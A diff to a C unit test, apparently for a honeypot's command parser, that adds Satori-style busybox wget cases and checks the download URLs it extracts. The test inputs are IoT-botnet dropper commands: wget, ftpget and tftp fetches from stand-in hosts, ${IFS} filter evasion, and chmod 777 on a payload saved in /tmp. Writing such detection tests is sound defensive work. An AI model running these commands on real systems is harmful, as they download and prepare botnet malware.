@@ -162,7 +162,12 @@ static void test_downloads(void **state)
 	run(sh, "busybox ftpget 198.51.100.4 ftp1.sh ftp1.sh");
 	run(sh, "cd${IFS}/tmp;wget${IFS}198.51.100.5/ifs");
 	run(sh, "tftp 198.51.100.6 -c get tftp1.sh");
-	assert_int_equal(nurls, 6);
+	/* Satori: wget with tftp's options keeps the remote path. */
+	run(sh, "cd /tmp; /bin/busybox wget -g 198.51.100.8 -l /tmp/.sat -r /mips; chmod 777 .sat");
+	run(sh, "wget -g 198.51.100.9 -r arm7");
+	assert_int_equal(nurls, 8);
+	assert_string_equal(urls[6], "http://198.51.100.8/mips");
+	assert_string_equal(urls[7], "http://198.51.100.9/arm7");
 	assert_string_equal(urls[0], "http://198.51.100.1/x.sh");
 	assert_string_equal(urls[1], "tftp://198.51.100.2/mirai.arm");
 	assert_string_equal(urls[2], "http://198.51.100.3/c");
